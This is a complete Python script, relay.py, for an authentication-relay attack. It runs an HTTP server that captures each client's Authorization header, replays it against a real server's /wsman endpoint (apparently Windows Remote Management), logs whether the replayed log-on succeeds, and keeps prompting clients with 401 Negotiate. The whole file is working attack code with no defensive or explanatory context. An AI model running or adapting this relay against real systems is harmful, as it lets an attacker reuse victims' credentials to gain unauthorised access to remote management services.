#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""relay.py ADDRESS REAL PORT LOG - whoever stands between: takes the log-on of each client and tries it at the real server.

A line in LOG for each log-on: the status with which the real server answers.
"""
import http.client
import http.server
import sys

ADDRESS, REAL, PORT, LOG = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]


class Between(http.server.BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.1'

    def answer(self):
        log_on = self.headers.get('Authorization')
        if log_on:
            real = http.client.HTTPConnection(REAL, PORT)
            real.request('GET', '/wsman', headers={'Authorization': log_on, 'Host': self.headers['Host']})
            with open(LOG, 'a', encoding='utf-8') as log:
                print(real.getresponse().status, file=log)
            real.close()
        self.send_response(401)
        self.send_header('WWW-Authenticate', 'Negotiate')
        self.send_header('Content-Length', '0')
        self.end_headers()

    do_GET = do_POST = answer

    def log_message(self, format, *args):  # pylint: disable=redefined-builtin
        pass


http.server.ThreadingHTTPServer((ADDRESS, PORT), Between).serve_forever()
